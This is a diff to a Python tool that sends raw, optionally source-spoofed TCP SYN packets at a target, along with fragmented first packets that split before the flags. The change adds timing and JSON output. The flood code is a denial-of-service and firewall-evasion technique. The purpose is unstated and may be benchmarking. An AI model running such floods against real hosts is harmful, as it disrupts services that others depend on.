@@ -1,16 +1,18 @@
 """Packets that no program of a client sends. Run in another host's network, as root.
 
 packets syn ADDRESS PORT COUNT [NETWORK]: so many of the first packets of a connection; with a network each
-comes from another of its addresses.
+comes from another of its addresses. Prints how many, in what time, and its CPU time, as JSON.
 packets fragments ADDRESS PORT: the first packet of a connection, in fragments that end before its flags; prints
 "answered" when an answer came.
 """
 
 import ipaddress
+import json
 import random
 import socket
 import struct
 import sys
+import time
 from collections.abc import Iterator
 
 SYN, ACK = 0x02, 0x10
@@ -62,10 +64,13 @@ def raw_socket() -> socket.socket:
 
 def flood(target: str, port: int, count: int, network: str | None) -> None:
     address = socket.inet_aton(target)
+    begun, cpu = time.monotonic(), time.process_time()
     with raw_socket() as out:
         for number, source in zip(range(count), sources(target, network)):
             segment = syn(source, address, port, 1024 + number % 60000)
             out.sendto(ip_packet(source, address, segment, 0, 0), (target, 0))
+    took, used = time.monotonic() - begun, time.process_time() - cpu
+    print(json.dumps({"count": count, "other": 0, "seconds": took, "cpu_s": used}))
 
 
 def is_answered(target: str, port: int) -> bool:
